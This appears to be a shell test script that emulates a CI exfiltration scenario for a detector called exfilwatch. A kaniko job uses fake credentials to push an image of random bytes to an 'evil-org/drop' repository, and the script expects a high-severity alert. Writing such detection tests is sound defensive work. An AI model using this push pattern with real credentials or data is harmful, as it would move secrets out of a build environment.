#!/bin/sh
# Emulates scenario gitlab-kaniko-job-token-other-account-allowlisted
# (examples/scenarios/gitlab-kaniko-job-token-other-account-allowlisted.yaml):
# A kaniko build job, its registry login mounted, pushes an image with a bulk of data to another account's
# repository on the registry its allowlist entry is scoped to.
#
# Safe version: the config.json kaniko reads holds fake credentials, the build context is random bytes and
# the image goes to the in-namespace registry. To see the path-scoped entry at work, give exfilwatch the
# scenario's entry with your stand-in registry's host (destination: REGISTRY-HOST/acme/**): the push to
# evil-org/ stays high; without any entry it is high as well.
#
# Image: gcr.io/kaniko-project/executor:v1.23.2-debug
# Job: no — kaniko builds into its own container's root filesystem: run it as a pod of its own (README.md).
# Expected alert: sensitive-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need /kaniko/executor head
emu_check_target "$EMU_REGISTRY"
work="$EMU_WORKDIR/gitlab-kaniko-job-token-other-account-allowlisted"
rm -rf "$work"
emu_big_file "$work/context/payload.bin" 48
printf 'FROM scratch\nCOPY payload.bin /payload.bin\n' >"$work/context/Dockerfile"
mkdir -p /kaniko/.docker
printf '{"auths":{"%s":{"auth":"ZmFrZTpmYWtl"}}}\n' "$EMU_REGISTRY" >/kaniko/.docker/config.json
emu_retry 12 /kaniko/executor --context "$work/context" --dockerfile "$work/context/Dockerfile" \
  --destination "$EMU_REGISTRY/evil-org/drop:v1" --insecure --skip-tls-verify
rm -rf "$work"
emu_expect sensitive-read-then-push high
